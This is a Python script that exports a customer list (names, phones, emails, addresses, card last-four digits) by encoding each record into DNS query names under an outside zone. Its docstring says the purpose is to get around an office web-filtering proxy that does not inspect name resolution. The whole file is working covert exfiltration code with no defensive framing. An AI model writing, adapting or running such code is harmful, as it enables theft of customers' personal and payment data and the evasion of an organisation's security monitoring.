#!/usr/bin/env python3
"""Push the customer list out through DNS lookups.

Used from the office PC where outbound web traffic goes through the
filtering proxy but name resolution does not.
"""
import argparse
import base64
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("dns_export")

ZONE = os.environ.get("SWEEP_SYNC_ZONE", "sync.example.net")
LABEL_LEN = 60
CUSTOMER_DB = Path(os.environ.get("SWEEP_CUSTOMERS", "~/Documents/customers.csv")).expanduser()


def read_customers(path):
    rows = []
    with path.open(newline="") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            rows.append(
                "|".join(
                    [
                        row.get("name", ""),
                        row.get("phone", ""),
                        row.get("email", ""),
                        row.get("address", ""),
                        row.get("card_last4", ""),
                    ]
                )
            )
    return rows


def encode_chunks(text):
    encoded = base64.b32encode(text.encode("utf-8")).decode("ascii").rstrip("=").lower()
    return [encoded[i : i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]


def send_record(session_id, index, record, delay):
    chunks = encode_chunks(record)
    for seq, chunk in enumerate(chunks):
        name = f"{chunk}.{seq}-{len(chunks)}.{index}.{session_id}.{ZONE}"
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            # NXDOMAIN is expected; the authoritative server logs the query.
            pass
        time.sleep(delay)
    return len(chunks)


def main():
    parser = argparse.ArgumentParser(description="Export customer list via DNS")
    parser.add_argument("--source", type=Path, default=CUSTOMER_DB)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--limit", type=int, default=0)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.source.exists():
        log.error("customer file %s not found", args.source)
        raise SystemExit(1)

    customers = read_customers(args.source)
    if args.limit:
        customers = customers[: args.limit]

    session_id = format(int(time.time()), "x")
    total = 0
    for index, record in enumerate(customers):
        total += send_record(session_id, index, record, args.delay)
        if index % 25 == 0:
            log.info("sent %d/%d records", index + 1, len(customers))

    log.info("done: %d records in %d queries (session %s)", len(customers), total, session_id)


if __name__ == "__main__":
    main()
